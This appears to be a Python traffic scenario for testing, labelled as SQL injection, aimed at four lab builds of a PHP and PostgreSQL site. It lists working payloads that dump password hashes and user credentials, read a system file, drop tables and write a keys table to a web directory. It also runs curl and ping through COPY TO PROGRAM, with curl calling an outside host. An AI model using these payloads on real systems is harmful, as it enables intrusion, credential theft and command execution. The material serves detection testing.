# SPDX-License-Identifier: GPL-2.0-or-later
"""SQL injection into PostgreSQL behind Apache's PHP: numbers, strings, a SOAP body, UPDATE without output, a login; four builds, one filtered."""
from lib.steps import body, form, get, q, values

NUMBER = ['9', '9 AND 1=1', '9 AND 1=2', "100 UNION SELECT servicio,llave,1 FROM llaves", "100 UNION ALL SELECT version(),current_user,1::numeric--", '9 AND 1=CAST((SELECT llave FROM llaves LIMIT 1) AS int)', "9'", '(SELECT 9)', '9;SELECT pg_sleep(2)',
          '9 AND (SELECT 1 FROM pg_sleep(2)) IS NOT NULL', "100 UNION SELECT usename,passwd,1 FROM pg_shadow", "100 UNION SELECT pg_read_file('/etc/hostname'),'b',1", "9;COPY (SELECT 'x') TO PROGRAM 'curl -s http://198.51.100.140:9090/pg'", "100 UNION SELECT string_agg(usuario||'~'||clave,'/'),'z',0 FROM usuarios",
          "100 UNION SELECT 1,2,3", "9 OR 1=1", "100 UNION SELECT chr(112)||chr(117)||(71*911)::text,md5('faro'),2", "9 AND 1=(SELECT 1/0)", "9 AND (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)=1", "9 AND nadie(1)", "100 UNION SELECT query_to_xml('select 1',true,true,'')::text,'x',1", "100/**/UNION/**/SELECT/**/table_name,table_schema,1/**/FROM/**/information_schema.tables/**/WHERE/**/table_name='llaves'",
          "9;CREATE TABLE kp(t text)", "9;DROP TABLE kp", "9;SELECT llave,servicio,1 FROM llaves", "9 AND ascii(substr((SELECT clave FROM usuarios LIMIT 1),1,1))>64", "9 AND $$a$$=$$a$$", "9 AND (1337=CAST('~'||(SELECT 7*191)::text||'~' AS NUMERIC))", "9 LIMIT 1 OFFSET 1"]
STRING = ["A-01' AND '1'='1", "A-01' AND '1'='2", "x' UNION SELECT servicio,7,llave FROM llaves--", "x' UNION SELECT version(),1,'z", "x'||pg_sleep(2)--", "A-01'", "A-01' AND (SELECT count(*) FROM usuarios)=2--", "A-01' AND (SELECT count(*) FROM usuarios)=5--", "x' OR codigo LIKE 'C%", "A-01';SELECT pg_sleep(2);--", "x' UNION SELECT upper('boya'),2*2,reverse('orafed') --", "O'Donnell"]
BLIND = ["EUR'); SELECT pg_sleep(2);--", "EUR'||(SELECT pg_sleep(2))||'", "EUR", "EUR' || CASE WHEN 1=2 THEN (SELECT 'a' FROM pg_sleep(2)) ELSE 'b' END || '", "EUR');COPY (SELECT 1) TO PROGRAM 'ping -c2 192.0.2.99';--", "EUR'", "x') OR (SELECT 1 FROM PG_SLEEP(2))=1--", "EUR');COPY llaves TO '/srv/puerto/www/subidas/k.txt';--"]
MATRICULA = ["7-BA-2-110", "x' OR '1'='1", "x' UNION SELECT servicio,llave FROM llaves--", "x' AND 1=CAST(version() AS int)--", "x'", "7-BA-2-110' AND 'a'='a", "x' UNION SELECT current_database(),inet_client_addr()::text||'kp'--", "&#39; UNION SELECT usuario,clave FROM usuarios--", "x&apos;;SELECT pg_sleep(2)--"]
BUILDS = [('203.0.113.71', 80), ('203.0.113.72', 80), ('203.0.113.73', 80), ('203.0.113.74', 80)]


def soap(value):
    return ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><consulta><matricula>' + value.replace('<', '&lt;') + '</matricula></consulta></soap:Body></soap:Envelope>')


def spaced(steps):
    for step in steps:
        yield dict(step, pause=1.6 if 'PROGRAM' in step['target'] else 0.05)


SCENARIO = [(BUILDS, [
    get('/barcos.php?eslora=9'), get('/barcos.php?eslora=12'), get('/amarre.php?codigo=A-01'), get('/amarre.php?codigo=Z-99'), *spaced(values('/barcos.php', 'eslora', 'sqli', *NUMBER[1:], gzip=True)), *values('/amarre.php', 'codigo', 'sqli', *STRING, keep=True),
    form('/amarre.php', {'codigo': STRING[2]}, 'sqli'), *spaced(values('/tarifas.php', 'moneda', 'sqli', *BLIND)), body('/servicio.php', soap(MATRICULA[0]), 'text/xml'), *[body('/servicio.php', soap(m), 'text/xml', 'sqli') for m in MATRICULA[1:]],
    *[form('/acceso.php', {'usuario': u, 'clave': 'nada'}, 'login') for u in ("capitania'--", "x' OR 1=1--", "x' OR '1'='1", "x' UNION SELECT 'capitania','admin'--", "x' OR 1=2--", "capitania' AND '1'='2")],
    form('/acceso.php', {'usuario': 'ferrer', 'clave': 'tramuntana'}), form('/acceso.php', {'usuario': 'ferrer', 'clave': 'olvidada'})])]
